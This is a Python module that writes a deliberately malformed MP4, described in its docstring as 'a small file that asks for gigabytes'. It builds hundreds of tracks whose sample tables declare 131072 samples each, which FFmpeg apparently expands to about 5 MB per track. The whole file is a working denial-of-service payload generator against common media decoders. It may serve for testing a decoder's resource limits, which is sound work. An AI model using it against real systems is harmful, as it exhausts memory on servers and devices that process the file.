"""A small file that asks for gigabytes."""

import struct
from pathlib import Path

_UNITY = struct.pack(">9i", 65536, 0, 0, 0, 65536, 0, 0, 0, 1 << 30)
_SAMPLES = 131072


def write_bomb(path: Path, tracks: int = 900) -> Path:
    """An MP4 of half a kilobyte for each track, whose tables of samples, of one run each, FFmpeg unrolls: 5 MB each."""
    header = _full(b"mvhd", _numbers(0, 0, 25, 25, 0x10000, 0x1000000, 0, 0), _UNITY, bytes(24), _numbers(tracks + 1))
    kind = _box(b"ftyp", b"isom\0\0\2\0isomiso2avc1mp41")
    movie = _box(b"moov", header, *(_track(number + 1) for number in range(tracks)))
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(kind + _box(b"mdat", bytes(400)) + movie)
    return path


def _track(number: int) -> bytes:
    head = struct.pack(">HH", 160, 120) + _numbers(0x480000, 0x480000, 0) + b"\0\1" + bytes(32) + b"\0\x18\xff\xff"
    entry = _box(b"mp4v", bytes(6) + b"\0\1" + bytes(16) + head)
    tables = [
        _full(b"stsd", _numbers(1), entry),
        _full(b"stts", _numbers(1, _SAMPLES, 1)),
        _full(b"stsc", _numbers(1, 1, _SAMPLES, 1)),
        _full(b"stsz", _numbers(1, _SAMPLES)),
        _full(b"stco", _numbers(1, 48)),
    ]
    place = _box(b"dinf", _full(b"dref", _numbers(1), _box(b"url ", b"\0\0\0\1")))
    information = _box(b"minf", _full(b"vmhd", bytes(8)), place, _box(b"stbl", *tables))
    media = _full(b"mdhd", _numbers(0, 0, 25, _SAMPLES), b"\x55\xc4\0\0")
    handler = _full(b"hdlr", _numbers(0), b"vide", bytes(13))
    shown = _numbers(0, 0, number, 0, _SAMPLES, 0, 0, 0, 0)
    track = _box(b"tkhd", b"\0\0\0\3", shown, _UNITY, _numbers(160 << 16, 120 << 16))
    return _box(b"trak", track, _box(b"mdia", media, handler, information))


def _numbers(*values: int) -> bytes:
    return struct.pack(f">{len(values)}I", *values)


def _box(name: bytes, *parts: bytes) -> bytes:
    content = b"".join(parts)
    return struct.pack(">I", 8 + len(content)) + name + content


def _full(name: bytes, *parts: bytes) -> bytes:
    return _box(name, bytes(4), *parts)
